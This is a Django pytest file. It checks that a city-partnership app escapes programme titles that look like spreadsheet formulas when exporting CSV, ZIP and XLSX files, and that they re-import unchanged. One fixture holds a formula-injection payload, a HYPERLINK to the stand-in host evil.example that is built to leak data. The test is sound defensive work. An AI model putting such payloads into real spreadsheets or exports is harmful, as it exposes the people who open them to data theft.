"""A programme titled like a spreadsheet formula is exported as text (CSV, XLSX, open-data
ZIP) and an export with such a title is imported again unchanged (finding 2 of issue 10)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from sistercity.programs import tabular
from sistercity.programs.models import Programme
from sistercity.reports.tests.plan import build_plan

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("https://evil.example/?leak","Open")'


@pytest.fixture
def titled(demo):
    build_plan(demo)
    programme = Programme.objects.get(code="t-waste-sorting")
    programme.set_current_language("en")
    programme.title = TITLE
    programme.save()
    programme.set_current_language("id")
    programme.title = "@SUM(1+1)"
    programme.save()
    return programme


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_export_quotes_formula_titles(partnership, titled):
    rows = _csv_rows(tabular.export_csv(partnership, "programmes"))
    row = next(r for r in rows if r["code"] == "t-waste-sorting")
    assert row["title_en"] == "'" + TITLE
    assert row["title_id"] == "'@SUM(1+1)"


def test_open_data_zip_quotes_formula_titles(client, partnership, titled):
    response = client.get(reverse("programs:open_data", args=[partnership.slug]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    rows = _csv_rows(archive.read("programmes.csv"))
    row = next(r for r in rows if r["code"] == "t-waste-sorting")
    assert row["title_en"] == "'" + TITLE


def test_xlsx_export_holds_text_and_imports_back_unchanged(partnership, titled, sari):
    data = tabular.export_xlsx(partnership)
    sheet = load_workbook(io.BytesIO(data))["programmes"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert "'" + TITLE in [cell.value for cell in cells]

    with translation.override("en"):
        summary = tabular.import_xlsx(actor=sari, partnership=partnership, data=data)
    assert summary.as_dict() == {"created": {}, "updated": {}}
    titled.refresh_from_db()
    assert titled.safe_translation_getter("title", language_code="en") == TITLE
    assert titled.safe_translation_getter("title", language_code="id") == "@SUM(1+1)"
